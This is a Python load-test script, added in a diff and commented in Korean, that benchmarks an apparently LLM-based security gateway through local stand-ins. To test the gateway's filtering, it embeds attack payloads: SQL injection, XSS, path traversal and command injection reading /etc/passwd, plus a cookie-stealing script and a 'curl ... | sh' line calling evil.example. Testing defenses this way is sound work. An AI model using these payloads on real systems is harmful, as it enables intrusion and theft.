@@ -0,0 +1,229 @@
+"""
+Gateway 부하 테스트 (Azure OpenAI / Qdrant / upstream 없이 local stand-in으로 실행)
+
+    python benchmark/run_benchmark.py --requests 5000 --concurrency 64 --output result.json
+
+결과(JSON): RPS, p50 / p95 / p99 latency, 1000 요청당 LLM 호출 수, peak RSS 등
+"""
+import argparse
+import asyncio
+import base64
+import json
+import math
+import os
+import random
+import shutil
+import sys
+import tempfile
+import time
+import urllib.parse
+from collections import Counter
+from typing import Dict, List, Tuple
+
+GATEWAY_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+if GATEWAY_DIR not in sys.path:
+    sys.path.insert(0, GATEWAY_DIR)
+
+from benchmark.fakes import FakeChatModel, FakeAgentGraph, FakeEmbeddings, FakeVectorStore, EchoUpstream, \
+    install_fake_backends
+
+BENIGN_TEMPLATES = [
+    ("GET", "/api/products", {"page": "{n}", "sort": "price"}, ""),
+    ("GET", "/api/users/{n}/profile", {}, ""),
+    ("POST", "/api/orders", {}, '{{"item_id": {n}, "quantity": 2, "memo": "문 앞에 놓아주세요"}}'),
+    ("POST", "/api/comments", {}, '{{"post_id": {n}, "content": "좋은 글 감사합니다"}}'),
+]
+
+MALICIOUS_TEMPLATES = [
+    ("GET", "/api/products", {"id": "{n}' OR '1'='1' --"}, ""),
+    ("GET", "/search", {"q": "<script>alert({n})</script>"}, ""),
+    ("POST", "/api/comments", {}, '{{"content": "<img src=x onerror=alert({n})>"}}'),
+    ("GET", "/download", {"file": "../../../../etc/passwd"}, ""),
+    ("POST", "/api/ping", {}, '{{"host": "127.0.0.{n}; cat /etc/passwd"}}'),
+]
+
+ENCODED_ATTACKS = [
+    "' UNION SELECT username, password FROM users WHERE id={n} --",
+    "<script>document.location='http://evil.example/?c='+document.cookie+{n}</script>",
+    "{n}; curl http://evil.example/x.sh | sh",
+]
+
+
+def _fill(value: str, n: int) -> str:
+    return value.replace("{n}", str(n)).replace("{{", "{").replace("}}", "}")
+
+
+def build_payload(kind: str, rng: random.Random, unique: int) -> Tuple[str, str, Dict[str, str], str]:
+    # unique: 종류별 서로 다른 요청 수 (작을수록 verdict cache / single-flight 효과가 커진다)
+    n = rng.randrange(unique)
+    if kind == "benign":
+        method, path, params, body = rng.choice(BENIGN_TEMPLATES)
+    elif kind == "malicious":
+        method, path, params, body = rng.choice(MALICIOUS_TEMPLATES)
+    else:
+        attack = _fill(rng.choice(ENCODED_ATTACKS), n)
+        encoding = rng.choice(("base64", "double_url", "unicode"))
+        if encoding == "base64":
+            encoded = base64.b64encode(attack.encode()).decode()
+        elif encoding == "double_url":
+            encoded = urllib.parse.quote(urllib.parse.quote(attack, safe=""), safe="")
+        else:
+            encoded = "".join(f"\\u{ord(c):04x}" for c in attack)
+        return "POST", "/api/import", {}, json.dumps({"data": encoded})
+    return method, _fill(path, n), {k: _fill(v, n) for k, v in params.items()}, _fill(body, n)
+
+
+def parse_mix(text: str) -> Dict[str, float]:
+    mix = {}
+    for part in text.split(","):
+        name, _, weight = part.partition("=")
+        mix[name.strip()] = float(weight)
+    unknown = set(mix) - {"benign", "malicious", "encoded"}
+    if unknown:
+        raise ValueError(f"알 수 없는 payload 종류: {unknown}")
+    return mix
+
+
+def percentile(sorted_values: List[float], q: float) -> float:
+    if not sorted_values:
+        return 0.0
+    # nearest-rank 방식
+    index = min(len(sorted_values) - 1, max(0, math.ceil(q / 100.0 * len(sorted_values)) - 1))
+    return sorted_values[index]
+
+
+def peak_rss_mb() -> float:
+    try:
+        import resource
+    except ImportError:  # Windows
+        return 0.0
+    rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    # Linux는 KB, macOS는 byte 단위
+    return round(rss / (1024 * 1024) if sys.platform == "darwin" else rss / 1024, 1)
+
+
+def latency_summary(latencies: List[float]) -> Dict[str, float]:
+    values = sorted(latencies)
+    return {
+        "p50_ms": round(percentile(values, 50) * 1000, 2),
+        "p95_ms": round(percentile(values, 95) * 1000, 2),
+        "p99_ms": round(percentile(values, 99) * 1000, 2),
+        "max_ms": round(values[-1] * 1000, 2) if values else 0.0,
+    }
+
+
+async def run(args, runtime_dir: str) -> Dict[str, object]:
+    import httpx
+
+    chat_model = FakeChatModel(args.llm_latency_ms, args.llm_jitter_ms,
+                               {"allow": args.allow_ratio, "review": args.review_ratio, "block": args.block_ratio})
+    agent_graph = FakeAgentGraph(args.agent_latency_ms)
+    embeddings = FakeEmbeddings()
+    vector_store = FakeVectorStore(embeddings)
+    install_fake_backends(chat_model, agent_graph, embeddings, vector_store)
+
+    upstream = EchoUpstream().start()
+    os.environ["UPSTREAM_URLS"] = upstream.url
+    # 단일 client IP로 부하를 주므로 client별 token bucket / rate limit은 기본적으로 끈다
+    os.environ.setdefault("ADMISSION_CLIENT_RATE", "0")
+    os.environ.setdefault("RATE_LIMIT_ENABLED", "false")
+    # stand-in embedding은 학습된 local 분류 model의 embedding과 다르므로 LLM tier만 측정
+    os.environ.setdefault("LOCAL_CLASSIFIER_ENABLED", "false")
+    # decision log / event log는 source tree가 아닌 임시 디렉터리에 기록
+    os.environ.setdefault("DECISION_LOG_DIR", os.path.join(runtime_dir, "decisions"))
+    os.environ.setdefault("GATEWAY_EVENT_LOG", os.path.join(runtime_dir, "gateway_events.log"))
+
+    import main as gateway
+
+    mix = parse_mix(args.mix)
+    kinds, weights = zip(*mix.items())
+    rng = random.Random(args.seed)
+    plan = [(kind, build_payload(kind, rng, args.unique)) for kind in rng.choices(kinds, weights, k=args.requests)]
+
+    latencies: List[float] = []
+    latencies_by_kind: Dict[str, List[float]] = {kind: [] for kind in kinds}
+    statuses: Counter = Counter()
+    cursor = iter(plan)
+
+    transport = httpx.ASGITransport(app=gateway.app, client=("10.1.0.1", 40000))
+    async with gateway.app.router.lifespan_context(gateway.app):
+        async with httpx.AsyncClient(transport=transport, base_url="http://gateway.local", timeout=None) as client:
+
+            async def worker():
+                for kind, (method, path, params, body) in cursor:
+                    headers = {"content-type": "application/json"} if body else {}
+                    start = time.perf_counter()
+                    try:
+                        response = await client.request(method, path, params=params, content=body, headers=headers)
+                        await response.aread()
+                        statuses[str(response.status_code)] += 1
+                    except Exception as e:
+                        statuses[type(e).__name__] += 1
+                    elapsed = time.perf_counter() - start
+                    latencies.append(elapsed)
+                    latencies_by_kind[kind].append(elapsed)
+
+            started = time.perf_counter()
+            await asyncio.gather(*(worker() for _ in range(args.concurrency)))
+            duration = time.perf_counter() - started
+
+    upstream.stop()
+
+    llm_calls = chat_model.calls + agent_graph.calls
+    return {
+        "config": {
+            "requests": args.requests,
+            "concurrency": args.concurrency,
+            "mix": mix,
+            "unique": args.unique,
+            "seed": args.seed,
+            "llm_latency_ms": args.llm_latency_ms,
+            "agent_latency_ms": args.agent_latency_ms,
+        },
+        "duration_s": round(duration, 3),
+        "rps": round(args.requests / duration, 2) if duration else 0.0,
+        "latency": latency_summary(latencies),
+        "latency_by_kind": {kind: latency_summary(values) for kind, values in latencies_by_kind.items()},
+        "status_codes": dict(statuses),
+        "llm": {
+            "first_tier_calls": chat_model.calls,
+            "first_tier_items": chat_model.items,
+            "review_agent_calls": agent_graph.calls,
+            "calls_per_1000_requests": round(llm_calls * 1000 / args.requests, 2),
+        },
+        "vector_store_queries": vector_store.queries,
+        "peak_rss_mb": peak_rss_mb(),
+    }
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description="Secure Gateway 부하 테스트 (local stand-in 사용)")
+    parser.add_argument("--requests", type=int, default=2000)
+    parser.add_argument("--concurrency", type=int, default=50)
+    parser.add_argument("--mix", default="benign=0.7,malicious=0.2,encoded=0.1",
+                        help="payload 비율 (benign / malicious / encoded)")
+    parser.add_argument("--unique", type=int, default=500, help="종류별 서로 다른 payload 수")
+    parser.add_argument("--seed", type=int, default=42)
+    parser.add_argument("--llm-latency-ms", type=float, default=300.0)
+    parser.add_argument("--llm-jitter-ms", type=float, default=100.0)
+    parser.add_argument("--agent-latency-ms", type=float, default=1500.0)
+    parser.add_argument("--allow-ratio", type=float, default=0.8)
+    parser.add_argument("--review-ratio", type=float, default=0.1)
+    parser.add_argument("--block-ratio", type=float, default=0.1)
+    parser.add_argument("--output", help="결과 JSON 파일 경로 (없으면 stdout만)")
+    args = parser.parse_args()
+
+    runtime_dir = tempfile.mkdtemp(prefix="gateway_benchmark_")
+    try:
+        result = asyncio.run(run(args, runtime_dir))
+    finally:
+        shutil.rmtree(runtime_dir, ignore_errors=True)
+    text = json.dumps(result, ensure_ascii=False, indent=2)
+    print(text)
+    if args.output:
+        with open(args.output, "w", encoding="utf-8") as f:
+            f.write(text + "\n")
+
+
+if __name__ == "__main__":
+    main()